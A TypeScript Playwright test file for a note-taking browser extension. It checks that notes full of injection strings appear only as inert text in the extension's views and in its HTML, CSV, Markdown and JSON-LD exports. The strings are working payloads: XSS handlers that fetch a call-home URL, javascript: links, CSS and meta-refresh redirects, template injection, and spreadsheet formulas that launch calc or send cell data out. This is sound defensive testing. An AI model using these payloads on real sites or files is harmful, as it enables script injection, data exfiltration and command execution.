/** The usual injection strings in every field of a note: text in the popup, the panel, the overlay and the options, inert in every export and import. */
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { after, before, test } from 'node:test';
import { unzipSync } from 'fflate';
import type { Page } from 'playwright';
import { type Newspaper, serveNewspaper } from '../../scripts/newspaper/serve.ts';
import type { Note } from '../../src/notes/note.ts';
import { allNotes, storeNotes } from '../support/ask.ts';
import { type Chromium, openChromium } from '../support/chromium.ts';
import { trapPage } from '../support/hostile.ts';
import { overlayFrame } from '../support/overlay.ts';
import { tell } from '../support/reader.ts';

declare const chrome: {
  runtime: { sendMessage<Answer>(message: object): Promise<Answer> };
};

/** Where a string that gets its way reports to. Nothing may ever ask for it. */
let callHome = '';
const strings = (): Record<string, string> => ({
  'an element with a handler': `<img src=x onerror="fetch('${callHome}');alert(1)">`,
  'a script': `"><script>fetch('${callHome}')</script>`,
  'the end of a script': `</script><script>alert(1)</script>`,
  'the end of an attribute': `' onmouseover='alert(1)' autofocus onfocus='alert(1)' x="`,
  'an svg': `<svg/onload=alert(1)><animate onbegin=alert(1)>`,
  'a frame': `<iframe srcdoc="<script>parent.hit=1</script>" src="${callHome}"></iframe>`,
  'a style': `</style><style>@import '${callHome}';*{background:url(${callHome})}</style>`,
  'a refresh': `<meta http-equiv=refresh content="0;url=${callHome}"><base href="${callHome}">`,
  'a link to a script': 'javascript:alert(1)//',
  'a link in Markdown': `[xem](javascript:alert(1)) ![](${callHome}) <${callHome}>`,
  'HTML in Markdown': `\n\n<div onclick=alert(1)>x</div>\n\n<!-- ${callHome} -->`,
  'an Obsidian embed': `![[bí mật]] {{title}} %%x%% \`\`\`dataviewjs\nalert(1)\n\`\`\``,
  'a formula': `=HYPERLINK("${callHome}?"&A1,"xem")`,
  'a command': `@SUM(1+1)*cmd|' /C calc'!A0`,
  'a formula behind a tab': `\t=1+1`,
  'a formula behind a sign': `-2+3+cmd|' /C calc'!A0`,
  'right to left': `an toàn \u202egnp.exe\u202c \u2066x\u2069`,
  'a NUL': `trước\u0000<b>sau`,
  'half a character': `trước \ud83d sau \udc00`,
  'the end of a CDATA section': `]]><!-- --!><b>x</b>`,
  entities: '&lt;b&gt;&#60;img src=x onerror=alert(1)&#62;&amp;',
  'a template': '$' + '{alert(1)}{{constructor.constructor("alert(1)")()}}<%= 7*7 %>',
  YAML: `---\ntitle: x\n---\n"x": !!js/function 'alert'`,
  'a name that every object has': '__proto__',
});

/** A text with its halves of characters replaced: they do not survive the way between test and browser. */
const whole = (text: string): string => Buffer.from(text).toString();

let newspaper: Newspaper;
let chromium: Chromium;
let notes: readonly Note[];
const asked: string[] = [];

before(async () => {
  newspaper = await serveNewspaper({ pages: { '/bay': trapPage({ isSet: false }) } });
  callHome = `${newspaper.origin}/goi-ve`;
  chromium = await openChromium();
  chromium.context.on('request', request => {
    if (request.url().includes('goi-ve') || /\/x$/.test(request.url())) asked.push(request.url());
  });
  chromium.context.on('dialog', dialog => {
    asked.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  const options = await chromium.openExtensionPage('options.html');
  const page = `${newspaper.origin}/bay`;
  const fresh = Object.values(strings()).map(text => ({
    ...{ id: randomUUID(), url: page, page, pageTitle: text, site: text.slice(0, 300) },
    ...{ color: 'pink' as const, body: text, tags: [text.slice(0, 100)] },
    selectors: [{ type: 'TextQuoteSelector' as const, exact: text, prefix: text, suffix: text }],
  }));
  await storeNotes(options, fresh);
  const stored = new Map((await allNotes(options)).map(note => [note.id, note]));
  notes = fresh.flatMap(({ id }) => stored.get(id) ?? []);
  await options.close();
});
after(async () => {
  await chromium.close();
  await newspaper.close();
});

/** Scrolls down the popup's list, which draws more as its end comes near, until every note is there. */
async function untilAllRows(popup: Page): Promise<void> {
  const rows = popup.locator('.row');
  await rows.first().waitFor();
  const end = Date.now() + 20_000;
  while ((await rows.count()) < notes.length) {
    assert.ok(Date.now() < end, 'the list has not come to its end');
    await rows.last().scrollIntoViewIfNeeded();
    await popup.waitForTimeout(50);
  }
}

/** What a text that was taken for markup would have left in a document of ours. */
const traces = (page: Page) =>
  page.evaluate(() => ({
    elements: document.querySelectorAll(
      'img, iframe, embed, object, base, meta[http-equiv=refresh], style, body script, animate, [srcdoc]',
    ).length,
    handlers: [...document.querySelectorAll('*')].filter(element =>
      element.getAttributeNames().some(name => name.startsWith('on')),
    ).length,
    links: [...document.querySelectorAll('a')].filter(
      ({ href }) => !/^(?:https?:|chrome-extension:)/.test(href),
    ).length,
    hit: 'hit' in globalThis,
  }));
const none = { elements: 0, handlers: 0, links: 0, hit: false };

test('all of them were stored as they are', () => {
  const wanted = Object.values(strings()).map(text => whole(text));
  assert.deepEqual(
    notes.map(({ body }) => whole(body)),
    wanted,
  );
});

for (const screen of ['popup', 'panel'])
  test(`the ${screen} shows them as text: quote, words, title, site, and an editor`, async () => {
    const popup = await chromium.openExtensionPage(`${screen}.html`);
    await popup.getByRole('tab', { name: 'Tất cả' }).click();
    await untilAllRows(popup);
    assert.deepEqual(await traces(popup), none);
    for (const { id, body } of notes) {
      const shown = await popup.locator(`[data-note="${id}"] .quote`).textContent();
      assert.equal(whole(shown ?? ''), whole(body));
    }
    for (const { id, body } of notes.slice(0, 4)) {
      const row = popup.locator(`[data-note="${id}"]`);
      await row.getByRole('button', { name: 'Sửa' }).click();
      assert.equal(await row.getByRole('textbox').inputValue(), body);
      await row.getByRole('textbox').press('Escape');
    }
    await popup.getByRole('searchbox').fill(notes[0]?.body ?? '');
    await popup.locator('.row').nth(1).waitFor({ state: 'detached' });
    assert.deepEqual(await traces(popup), none);
    assert.deepEqual(asked, []);
    await popup.close();
  });

test('the overlay shows them as text', async () => {
  const page = await chromium.context.newPage();
  await page.goto(`${newspaper.origin}/bay`);
  await page.locator('h1').waitFor();
  for (const { id, body } of notes) {
    await tell(chromium, page, 'content.goTo', { id });
    const frame = await overlayFrame(page);
    await frame.waitForFunction(
      ([text]) =>
        new TextDecoder().decode(
          new TextEncoder().encode(document.querySelector('.quote')?.textContent ?? ''),
        ) === text && document.querySelector('textarea') !== null,
      [whole(body)] as const,
    );
    const shown = await frame.evaluate(() => ({
      elements: document.querySelectorAll('img, iframe, style, body script, animate, a').length,
      value: document.querySelector('textarea')?.value ?? '',
    }));
    assert.deepEqual({ ...shown, value: whole(shown.value) }, { elements: 0, value: whole(body) });
    assert.equal(await page.locator('img, iframe, [onerror]').count(), 0);
  }
  assert.deepEqual(asked, []);
  await page.close();
});

async function exported(format: string): Promise<Buffer> {
  const page = await chromium.openExtensionPage('options.html');
  const waiting = page.waitForEvent('download');
  await page.locator(`[data-format="${format}"]`).click();
  const bytes = readFileSync(await (await waiting).path());
  assert.deepEqual(await traces(page), none);
  await page.close();
  return bytes;
}

test('the HTML report runs nothing, asks for nothing and shows them as text', async () => {
  const html = String(await exported('html'));
  // Once as it is, and once without its own policy, which is to be the second lock only.
  const open = html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
  assert.notEqual(open, html);
  const server = await serveNewspaper({
    pages: { '/bao-cao': html, '/bao-cao-mo': open },
  });
  const browser = await openChromium({ extension: null });
  try {
    for (const path of ['/bao-cao', '/bao-cao-mo']) {
      const requests: string[] = [];
      const page = await browser.context.newPage();
      page.on('request', request => requests.push(request.url()));
      page.on('dialog', dialog => {
        requests.push(`dialog ${dialog.message()}`);
        void dialog.dismiss();
      });
      await page.goto(server.origin + path, { waitUntil: 'networkidle' });
      assert.deepEqual(
        requests.filter(url => !url.endsWith('/favicon.ico')),
        [server.origin + path],
      );
      const { elements, ...rest } = await traces(page);
      // Its own style sheet.
      assert.deepEqual({ ...rest, elements: elements - 1 }, none);
      const texts = await page.locator('p.note').allTextContents();
      assert.equal(texts.length, notes.length);
      assert.ok(texts.includes(strings()['a script'] ?? ''), 'the text is not shown as it is');
      await page.close();
    }
  } finally {
    await browser.close();
    await server.close();
  }
});

test('no cell of the table begins as a formula does', async () => {
  const text = String(await exported('csv')).replace(/^\ufeff/, '');
  const cells = [...text.matchAll(/"((?:[^"]|"")*)"(?:,|\r\n)/g)].map(([, cell]) => cell ?? '');
  assert.equal(cells.length, (notes.length + 1) * 11);
  assert.equal(
    cells.map(cell => `"${cell}"`).join('').length + cells.length + notes.length + 1,
    text.length,
  );
  const formulas = cells.filter(cell =>
    /^[\s\u200b-\u200f\u2060\ufeff]*[=+\-@]|^[\t\r\n]/.test(cell),
  );
  assert.deepEqual(formulas, []);
  assert.equal(text.includes('\0'), false);
});

test('no Markdown has an element, a link to a script, an embed or a block of code in it', async () => {
  const single = String(await exported('markdown'));
  const archive = unzipSync(await exported('markdown-articles'));
  const files = [single, ...Object.values(archive).map(bytes => Buffer.from(bytes).toString())];
  for (const name of Object.keys(archive)) assert.match(name, /^[^/\\<>:"|?*\0]+\.md$/);
  for (const file of files) {
    // What is escaped is text; front matter is YAML, whose strings are quoted.
    const bare = file
      .replace(/^---\n[\s\S]*?\n---\n/, '')
      .replace(/\\[\s\S]/g, '')
      .replace(/\]\(<https?:[^>\n]*>\)/g, '');
    assert.doesNotMatch(bare, /<[a-z!/]|!\[|\[\[|\]\(|`{3}|\{\{|%%/i);
  }
});

test('the JSON-LD file is the same notes again, and an import of strings shows them as text', async () => {
  const file = String(await exported('json-ld'));
  const parsed = JSON.parse(file) as { items: Record<string, unknown>[] };
  assert.equal(parsed.items.length, notes.length);
  const page = await chromium.openExtensionPage('options.html');
  const choose = (content: string) =>
    page.locator('#import-file').setInputFiles({
      name: 'x.json',
      mimeType: 'application/json',
      buffer: Buffer.from(content),
    });
  await choose(file);
  await page.getByText('Không có gì để nhập.').waitFor();
  await page.getByRole('button', { name: 'Đóng' }).click();
  // New to this browser: every note in the preview.
  const renamed = parsed.items.map(item => ({ ...item, id: `urn:uuid:${randomUUID()}` }));
  await choose(JSON.stringify({ ...parsed, items: renamed }));
  await page.locator('.preview .brief, .brief').first().waitFor({ state: 'attached' });
  await page.locator('summary').first().click();
  assert.deepEqual(await traces(page), none);
  assert.ok((await page.locator('.brief').count()) > 0, 'nothing is shown');
  // Not taken in: the reader has not said so.
  const popup = await chromium.openExtensionPage('popup.html');
  await popup.getByRole('tab', { name: 'Tất cả' }).click();
  await untilAllRows(popup);
  await page.close();
  await popup.close();
  assert.deepEqual(asked, []);
});

test('the bin shows them as text', async () => {
  const page = await chromium.openExtensionPage('options.html');
  await page.evaluate(
    async ids => {
      for (const id of ids) {
        await chrome.runtime.sendMessage({ to: 'background', type: 'note.delete', id });
      }
    },
    notes.map(({ id }) => id),
  );
  await page.reload();
  await page
    .locator('[aria-labelledby="bin"] .brief')
    .nth(notes.length - 1)
    .waitFor();
  assert.deepEqual(await traces(page), none);
  assert.deepEqual(asked, []);
  await page.close();
});
